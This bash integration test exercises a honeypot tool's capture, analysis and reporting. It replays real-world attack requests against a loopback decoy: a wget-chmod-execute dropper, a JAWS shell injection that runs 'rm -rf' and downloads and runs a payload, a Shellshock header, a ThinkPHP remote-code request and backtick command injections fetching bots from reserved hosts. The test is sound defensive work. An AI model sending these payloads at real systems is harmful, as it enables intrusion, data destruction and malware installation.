#!/bin/bash
# Files that decoys captured are analysed, what they share makes a campaign, reports are kept and read;
# requests are matched with known weaknesses, and those without a name are grouped by their shape.
. "$(dirname "$0")/lib.sh"
for tool in jq curl gcc python3; do [ -n "$(command -v $tool)" ] || skip "needs $tool"; done
web() { curl -sS -m 20 "http://127.0.0.1:$WEB_PORT$1"; }

DECOY=127.24.0.1
loopback_config <<-EOT
	passive:
	  decoys: [{prefix: $DECOY, personas: [webserver]}]
	  services: {http: {ports: [$HTTP_PORT]}}
	  workers: 1
	lab: {confidence: 20}
	rules: [{on: file.captured, do: analyse}]
	${CHDB:+store: {library: $CHDB\}}
EOT
# Two harmless programs with the same server's address in them, and a script that fetches.
program() {
	printf '#include <stdio.h>\nint main(void) { puts("%s"); puts("http://192.0.2.77/bins/a.mips"); puts("%s"); return 0; }\n' \
		"$1" "stratum+tcp://pool.example.org:3333" | gcc -x c -O1 -o "$2" - || fail "no compiler"
}
program "first of two" "$WORK/one"
program "the second, which says something else altogether" "$WORK/two"
printf '#!/bin/sh\ncd /tmp; wget http://192.0.2.77/bins/a.mips -O a; chmod 777 a; ./a\n' >"$WORK/script"
start_kansoku --only journal,store,control,passive,lab,web

upload() { curl -sS -m 20 -o /dev/null -F "file=@$1" "http://$DECOY:$HTTP_PORT/upload.php" || fail "an upload failed"; }
upload "$WORK/one"
upload "$WORK/script"
try() { curl -sS -m 20 -o /dev/null "$@" || fail "a request failed"; }
try "http://$DECOY:$HTTP_PORT/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws"
try -A '() { :; }; /bin/ping -c1 192.0.2.1' "http://$DECOY:$HTTP_PORT/"
try -X POST -d 'think\app/invokefunction' "http://$DECOY:$HTTP_PORT/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array"
try "http://$DECOY:$HTTP_PORT/new_thing.cgi?target=\`wget%20http://192.0.2.10/bot1;sh%20bot1\`"
try "http://$DECOY:$HTTP_PORT/new_thing.cgi?target=\`wget%20http://198.51.100.10:81/bot22;sh%20bot22\`"
try "http://$DECOY:$HTTP_PORT/index.html"

one=$(sha256sum <"$WORK/one" | cut -c1-64) two=$(sha256sum <"$WORK/two" | cut -c1-64)
wait_for() { # what SQL
	for _ in $(seq 100); do
		[ "$(query "SELECT count() > 0 FROM log WHERE $2" 2>/dev/null)" = 1 ] && return
		sleep 0.2
	done
	fail "$1 did not come: $(query "SELECT kind, file_sha256, rule, field, value FROM log WHERE kind IN ('file.captured','sample.analysed','exploit.seen')")"
}
wait_for "the analysis" "kind = 'sample.analysed' AND file_sha256 = '$one'"
upload "$WORK/two"
upload "$WORK/one"
wait_for "the second analysis" "kind = 'sample.analysed' AND file_sha256 = '$two'"
wait_for "a known weakness" "kind = 'exploit.seen' AND rule = 'thinkphp-invoke'"
wait_for "a request without a name" "kind = 'exploit.seen' AND rule = 'unknown'"

# Every fact has its cause: the file that was captured, then its analysis, then what was found.
[ "$(query "SELECT count() FROM log AS a INNER JOIN (SELECT id, file_sha256 FROM log WHERE kind = 'file.captured') AS c ON a.cause = c.id \
	WHERE a.kind = 'sample.analysed' AND a.file_sha256 = c.file_sha256")" = 3 ] || fail "analyses without their file as a cause"
[ "$(query "SELECT count() > 3 FROM log AS i INNER JOIN (SELECT id FROM log WHERE kind = 'sample.analysed') AS a ON i.cause = a.id \
	WHERE i.kind = 'indicator.found'")" = 1 ] || fail "indicators without an analysis as their cause"
[ "$(query "SELECT count() FROM log WHERE kind = 'sample.analysed' AND file_sha256 = '$one'")" = 1 ] || fail "a file was analysed twice"
[ "$(query "SELECT count() FROM log AS e INNER JOIN (SELECT id FROM log WHERE kind = 'request.seen') AS r ON e.cause = r.id \
	WHERE e.kind = 'exploit.seen'")" -ge 4 ] || fail "exploits without a request as their cause"
for rule in jaws-shell shellshock thinkphp-invoke; do
	[ "$(query "SELECT count() FROM log WHERE kind = 'exploit.seen' AND rule = '$rule'")" -ge 1 ] || fail "$rule was not seen"
done
# The two of one shape are told once; the script that was uploaded is another.
groups=$(query "SELECT count(), uniqExact(value[indexOf(field,'exploit.group')]) FROM log WHERE kind = 'exploit.seen' AND rule = 'unknown'")
[ "$groups" = "2	2" ] || fail "requests of one shape are not one group: $groups $(query "SELECT field, value FROM log WHERE rule = 'unknown'")"

# Reports: by the API, each in its form, and what they say of each other.
web "/api/v1/samples" >"$WORK/list"
jq -e --arg one "$one" '.rows | map(.sha256) | index($one) != null' "$WORK/list" >/dev/null || fail "the list: $(cat "$WORK/list")"
web "/api/v1/samples/$one/json" >"$WORK/json"
jq -e --arg one "$one" '.sha256 == $one and .type == "elf" and .architecture == "x86-64" and (.places | length) >= 1 and
	(.indicators | map(.value) | index("http://192.0.2.77/bins/a.mips") != null)' "$WORK/json" >/dev/null || fail "the report: $(cut -c1-2000 "$WORK/json")"
web "/api/v1/samples/$two/json" | jq -e --arg one "$one" '.links | map(.sha256) | index($one) != null' >/dev/null || fail "no link between two samples of one server"
web "/api/v1/samples/$one/stix" | jq -e '.type == "bundle" and (.objects | map(.type) | index("malware-analysis") != null)' >/dev/null || fail "no STIX"
web "/api/v1/samples/$one/cape" | jq -e --arg one "$one" '.target.file.sha256 == $one' >/dev/null || fail "no report in CAPE's shape"
web "/api/v1/samples/$one/page" | grep -q "hxxp://192\[.\]0\[.\]2\[.\]77" || fail "no page"
curl -sS -m 20 -o /dev/null -D - "http://127.0.0.1:$WEB_PORT/api/v1/samples/$one/page" | grep -qi "style-src 'unsafe-inline'.*sandbox" ||
	fail "the page may not have its style, or may run something"
web "/api/v1/samples/$one/capture" | jq -e '.error.code == "no-report"' >/dev/null || fail "packets of a sample that was not run"
web "/api/v1/samples/$one" | jq -e '.rows | map(.kind) | index("file.captured") != null and index("indicator.found") != null' >/dev/null || fail "its events"
web "/samples.js" | grep -q "export async function samples" || fail "no page of the console"

"$KANSOKU" report samples --config "$CONFIG" --json >"$WORK/report" || fail "no report"
jq -e '.parts.totals[0].samples == 3 and (.parts.weaknesses | map(.rule) | index("shellshock") != null) and (.parts.novel | length) == 2 and
	(.parts.captured | map(.times) | max) >= 2' "$WORK/report" >/dev/null || fail "report samples: $(cat "$WORK/report")"
[ "$(role_pid lab)" ] || fail "the lab is not there any more"
stop_kansoku || fail "kansoku did not end cleanly"
grep -E "lab.*(warning|error)" "$LOG" && fail "the lab complained"
echo "ok: 3 samples, $(jq '.parts.weaknesses | length' "$WORK/report") weaknesses, 2 groups without a name"
